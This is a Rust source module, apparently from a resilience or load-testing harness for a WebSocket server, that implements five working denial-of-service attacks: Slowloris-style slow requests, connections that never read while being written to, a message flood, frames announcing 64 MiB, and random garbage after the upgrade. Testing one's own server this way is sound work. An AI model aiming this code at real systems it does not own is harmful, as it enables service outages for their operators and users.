//! The attacks. Each goes on until it is told to stop, with threads and sockets of its own and
//! nothing of the load generator's framing but the masked frame: what a stranger would do.

use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

use crate::target::Target;
use crate::websocket::{Opcode, encode, upgrade_request};

const MASK: [u8; 4] = [1, 2, 3, 4];
/// Slow requests send a byte this often: within the server's patience for a byte, not for a head.
const BYTE_EVERY: Duration = Duration::from_secs(2);
/// Readers who never read, and what one writer tells each of them per second.
const DEAF_COUNT_MAX: usize = 1_000;
const DEAF_RATE: u32 = 2;
const DEAF_BODY_SIZE: usize = 4_000;
/// Frames that announce 64 MiB, and garbage, per second: every one costs the server a handshake.
const SHORT_RATE: u32 = 50;
const HUGE_SIZE: u64 = 64 << 20;
const ANSWER_MAX: Duration = Duration::from_secs(2);
/// Source addresses, so that ports suffice.
const SOURCES: usize = 16;

/// One kind of attack. `act` returns how often it struck.
pub struct Attack {
    pub name: &'static str,
    pub act: fn(&Aim) -> io::Result<u64>,
}

pub const ATTACKS: &[Attack] = &[
    Attack { name: "requests a byte at a time", act: slow_requests },
    Attack { name: "readers that never read", act: deaf_readers },
    Attack { name: "a flood on one connection", act: flood },
    Attack { name: "frames of 64 MiB", act: huge_frames },
    Attack { name: "garbage after the upgrade", act: garbage },
];

/// Whom it is aimed at, and how long.
pub struct Aim {
    pub target: Target,
    pub connections: usize,
    pub run: String,
    pub stop: Arc<AtomicBool>,
}

impl Aim {
    fn goes_on(&self) -> bool {
        !self.stop.load(Ordering::Acquire)
    }

    fn connect(&self, position: usize) -> io::Result<TcpStream> {
        let SocketAddr::V4(to) = self.target.address else {
            return TcpStream::connect(self.target.address);
        };
        let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
        if to.ip().is_loopback() {
            let from = Ipv4Addr::new(127, 0, 1, 1 + (position % SOURCES) as u8);
            socket.bind(&SocketAddr::from((from, 0)).into())?;
        }
        // Reset, so that no ports are left behind.
        socket.set_linger(Some(Duration::ZERO))?;
        socket.connect_timeout(&self.target.address.into(), ANSWER_MAX)?;
        Ok(socket.into())
    }

    /// A connection after its upgrade.
    fn upgraded(&self, position: usize, user: &str) -> io::Result<TcpStream> {
        let mut stream = self.connect(position)?;
        stream.set_read_timeout(Some(ANSWER_MAX))?;
        let path = format!("/v1/connect?user={user}&device=x");
        stream.write_all(&upgrade_request(&self.target.name, &path))?;
        let (mut head, mut byte) = (Vec::new(), [0]);
        while !head.ends_with(b"\r\n\r\n") {
            stream.read_exact(&mut byte)?;
            head.push(byte[0]);
        }
        match head.starts_with(b"HTTP/1.1 101") {
            true => Ok(stream),
            false => Err(io::Error::other("the server did not upgrade")),
        }
    }
}

/// Slowloris: as many requests as there are attackers, none of which ever ends.
fn slow_requests(aim: &Aim) -> io::Result<u64> {
    let request = upgrade_request(&aim.target.name, "/v1/connect?user=slow");
    let mut open: Vec<(TcpStream, usize, Instant)> = Vec::new();
    let mut attempts = 0;
    while aim.goes_on() {
        let turn = Instant::now();
        while open.len() < aim.connections && aim.goes_on() && turn.elapsed() < BYTE_EVERY / 10 {
            let Ok(stream) = aim.connect(attempts as usize) else {
                break;
            };
            stream.set_nonblocking(true)?;
            attempts += 1;
            open.push((stream, 0, turn));
        }
        open.retain_mut(|(stream, sent, last)| {
            if last.elapsed() < BYTE_EVERY && *sent > 0 {
                return true;
            }
            let byte = request[*sent % (request.len() - 4)];
            (*sent, *last) = (*sent + 1, Instant::now());
            stream.write(&[byte]).is_ok()
        });
        thread::sleep(Duration::from_millis(10));
    }
    Ok(attempts)
}

/// Users who connect and never read, and one who writes to all of them.
fn deaf_readers(aim: &Aim) -> io::Result<u64> {
    let count = aim.connections.min(DEAF_COUNT_MAX);
    let name = |index: usize| format!("deaf-{}-{index}", aim.run);
    let _deaf: Vec<TcpStream> =
        (0..count).map(|index| aim.upgraded(index, &name(index))).collect::<io::Result<_>>()?;
    let mut writer = aim.upgraded(0, &format!("deaf-writer-{}", aim.run))?;
    let reader = writer.try_clone()?;
    thread::scope(|scope| {
        scope.spawn(|| discard(reader, aim));
        let body = "x".repeat(DEAF_BODY_SIZE);
        let (every, mut frame, mut attempts) =
            (Duration::from_secs(1) / (DEAF_RATE * count.max(1) as u32), Vec::new(), 0);
        let start = Instant::now();
        while aim.goes_on() {
            let to = name(attempts as usize % count.max(1));
            let send = format!(r#"{{"t":"send","to":"{to}","id":"{attempts}","body":"{body}"}}"#);
            frame.clear();
            encode(&mut frame, Opcode::Text, MASK, send.as_bytes());
            write_while(&mut writer, &frame, aim)?;
            attempts += 1;
            thread::sleep((every * attempts).saturating_sub(start.elapsed()));
        }
        Ok(u64::from(attempts))
    })
}

/// Operations on one connection, as fast as the server takes them; on another one when it is cut.
fn flood(aim: &Aim) -> io::Result<u64> {
    let mut frames = Vec::new();
    for _ in 0..1_000 {
        encode(&mut frames, Opcode::Text, MASK, br#"{"t":"ping"}"#);
    }
    let mut attempts = 0;
    while aim.goes_on() {
        let mut writer = aim.upgraded(0, &format!("flood-{}", aim.run))?;
        let reader = writer.try_clone()?;
        thread::scope(|scope| {
            scope.spawn(|| discard(reader, aim));
            while aim.goes_on() && write_while(&mut writer, &frames, aim).is_ok() {
                attempts += 1_000;
            }
            let _gone = writer.shutdown(Shutdown::Both);
        });
    }
    Ok(attempts)
}

/// Frames that say they are larger than any the server takes.
fn huge_frames(aim: &Aim) -> io::Result<u64> {
    short_ones(aim, |stream| {
        let mut frame = vec![0x82, 0x80 | 127];
        frame.extend_from_slice(&HUGE_SIZE.to_be_bytes());
        frame.extend_from_slice(&MASK);
        frame.resize(64 * 1024, 0);
        stream.write_all(&frame)
    })
}

fn garbage(aim: &Aim) -> io::Result<u64> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    short_ones(aim, move |stream| {
        let mut bytes = Vec::new();
        while bytes.len() < 16 * 1024 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            bytes.extend_from_slice(&state.to_le_bytes());
        }
        stream.write_all(&bytes)
    })
}

/// Connections one after the other, on each of which something is said that the server must end.
fn short_ones(
    aim: &Aim,
    mut strike: impl FnMut(&mut TcpStream) -> io::Result<()>,
) -> io::Result<u64> {
    let (start, mut attempts) = (Instant::now(), 0);
    let every = Duration::from_secs(1) / SHORT_RATE;
    while aim.goes_on() {
        let mut stream = aim.upgraded(attempts as usize, &format!("short-{}", aim.run))?;
        // The server may have ended it before all of it was written.
        let _refused = strike(&mut stream);
        stream.set_read_timeout(Some(ANSWER_MAX))?;
        let mut answer = Vec::new();
        match stream.read_to_end(&mut answer) {
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                return Err(io::Error::other("the server did not end the connection"));
            }
            _ => attempts += 1,
        }
        thread::sleep((every * attempts).saturating_sub(start.elapsed()));
    }
    Ok(u64::from(attempts))
}

/// Writes all of it, unless the attack ends before.
fn write_while(stream: &mut TcpStream, mut bytes: &[u8], aim: &Aim) -> io::Result<()> {
    stream.set_write_timeout(Some(Duration::from_millis(200)))?;
    while !bytes.is_empty() && aim.goes_on() {
        match stream.write(bytes) {
            Ok(written) => bytes = &bytes[written..],
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Reads what the server says, and forgets it.
fn discard(mut stream: TcpStream, aim: &Aim) {
    let mut buffer = vec![0; 64 * 1024];
    let _timeout = stream.set_read_timeout(Some(Duration::from_millis(200)));
    while aim.goes_on() {
        match stream.read(&mut buffer) {
            Ok(0) => return,
            Err(error) if !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return;
            }
            _ => {}
        }
    }
}
